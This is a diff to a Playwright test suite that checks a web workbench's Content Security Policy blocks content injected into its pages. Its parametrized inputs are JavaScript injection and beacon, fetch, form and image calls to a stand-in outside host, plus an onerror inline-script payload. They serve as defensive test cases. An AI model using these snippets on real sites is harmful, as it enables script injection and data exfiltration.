@@ -7,6 +7,7 @@ judge, and a twin shows that it sees what would leave.
 from __future__ import annotations
 
 import re
+from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
@@ -95,6 +96,16 @@ def oddly_named(tmp_path_factory: pytest.TempPathFactory) -> Path:
     return path
 
 
+def words_of_blocks(page: Any) -> Iterator[str]:
+    """What the Cache tab shows of each block, opened one after the other."""
+    cells = page.locator("#cache button.cell")
+    cells.first.wait_for()
+    for number in range(cells.count()):
+        cells.nth(number).click()
+        page.locator(f"#cache button.cell >> nth={number}").and_(page.locator('[aria-pressed="true"]')).wait_for()
+        yield page.locator("#cache .details .text").text_content()
+
+
 def test_no_way_out_of_a_message_an_answer_or_a_name(person, workbench_url, model_says, oddly_named, artifacts):
     model_says(EVERYTHING)
     me = person(workbench_url).arrive()
@@ -123,9 +134,7 @@ def test_no_way_out_of_a_message_an_answer_or_a_name(person, workbench_url, mode
 
     page.get_by_role("tab", name="Cache").click()  # its strips and blocks hold words of the prompt
     page.locator("#cache .lane .bar").first.click()
-    page.locator("#cache .cell[aria-label]").first.click()
-    page.locator("#cache .details .text").wait_for()
-    page.locator("#cache .details .text").evaluate("node => node.textContent.includes('<img src=')")
+    assert any("<img src=" in words for words in words_of_blocks(page)), "no block has shown what was sent"
     page.get_by_role("tab", name="Video").click()
     page.get_by_role("button", name="moving circle").click()
     page.locator("#video .pair").first.wait_for()
@@ -161,33 +170,49 @@ def test_a_picture_within_an_answer_is_shown(person, workbench_url, model_says, 
     )
 
 
+@pytest.fixture(scope="module")
+def from_inside(browser, workbench_url) -> Iterator[pages.Person]:
+    """One page for all that is tried from inside: the policy lets none of it change anything."""
+    me = pages.Person(browser, workbench_url).arrive()
+    yield me
+    me.leave()
+
+
 @pytest.mark.parametrize(
-    "way",
+    ("way", "directive"),
     [
-        f"document.body.append(Object.assign(new Image(), {{src: '{HOST}/1.png'}}))",
-        f"document.body.append(Object.assign(document.createElement('iframe'), {{src: '{HOST}/2'}}))",
-        f"document.head.append(Object.assign(document.createElement('script'), {{src: '{HOST}/3.js'}}))",
-        "document.head.append(Object.assign(document.createElement('script'), {text: 'window.ran = true'}))",
-        f"document.body.style.backgroundImage = 'url({HOST}/4.png)'",
-        f"fetch('{HOST}/5').catch(() => {{}})",
-        f"navigator.sendBeacon('{HOST}/6')",
-        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran = true\">')",
-        f"(() => {{ const form = document.createElement('form'); form.action = '{HOST}/7';"
-        " document.body.append(form); form.submit(); })()",
+        (f"document.body.append(Object.assign(new Image(), {{src: '{HOST}/1.png'}}))", "img-src"),
+        (f"document.body.append(Object.assign(document.createElement('iframe'), {{src: '{HOST}/2'}}))", "frame-src"),
+        (
+            f"document.head.append(Object.assign(document.createElement('script'), {{src: '{HOST}/3.js'}}))",
+            "script-src",
+        ),
+        (
+            "document.head.append(Object.assign(document.createElement('script'), {text: 'window.ran = true'}))",
+            "script",
+        ),
+        (f"document.body.style.backgroundImage = 'url({HOST}/4.png)'", "img-src"),
+        (f"fetch('{HOST}/5').catch(() => {{}})", "connect-src"),
+        (f"navigator.sendBeacon('{HOST}/6')", "connect-src"),
+        ("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran = true\">')", "script-src"),
+        (
+            f"(() => {{ const form = document.createElement('form'); form.action = '{HOST}/7';"
+            " document.body.append(form); form.submit(); })()",
+            "form-action",
+        ),
     ],
 )
-def test_what_got_into_the_page_all_the_same_is_stopped_by_the_policy(browser, workbench_url, way):
+def test_what_got_into_the_page_all_the_same_is_stopped_by_the_policy(from_inside, way, directive):
     """The second fence, tried from inside. The browser refuses each of these, and says so."""
-    me = pages.Person(browser, workbench_url).arrive()
-    try:
-        me.page.evaluate(way)
-        me.page.wait_for_timeout(400)
-        refused = [line for line in me.complaints if re.search("Content Security Policy|violates", line)]
-        assert refused, me.complaints
-        assert not me.page.evaluate("window.ran ?? false")
-        assert me.page.url.startswith(me.url)
-    finally:
-        me.leave()
+    page = from_inside.page
+
+    def is_refusal(line: Any) -> bool:
+        return re.search("Content Security Policy|violates", line.text) is not None and directive in line.text
+
+    with page.expect_console_message(is_refusal):
+        page.evaluate(way)
+    assert not page.evaluate("window.ran ?? false")
+    assert page.url.startswith(from_inside.url)
 
 
 def test_an_uploaded_script_is_not_run(browser, workbench_url, tmp_path):
@@ -211,14 +236,14 @@ def test_an_uploaded_script_is_not_run(browser, workbench_url, tmp_path):
 
 def test_without_the_policy_it_would_leave(browser, serve_page, demo_engine, monkeypatch: pytest.MonkeyPatch):
     """The twin: the list of requests sees what leaves a page without the header."""
-    from engine.api import headers
+    from engine.api.http import headers
 
     monkeypatch.setattr(headers.SafeHeaders, "_add", lambda self, start, hashes: None)
     with serve_page(demo_engine) as url:
         me: Any = pages.Person(browser, url).arrive()
         outside = Outside(me)
-        me.page.evaluate(f"document.body.append(Object.assign(new Image(), {{src: '{HOST}/1.png'}}))")
-        me.page.wait_for_timeout(400)
+        with me.page.expect_request(f"{HOST}/1.png"):
+            me.page.evaluate(f"document.body.append(Object.assign(new Image(), {{src: '{HOST}/1.png'}}))")
         me.leave()
     with pytest.raises(AssertionError, match=r"1\.png"):
         assert outside.requests == []
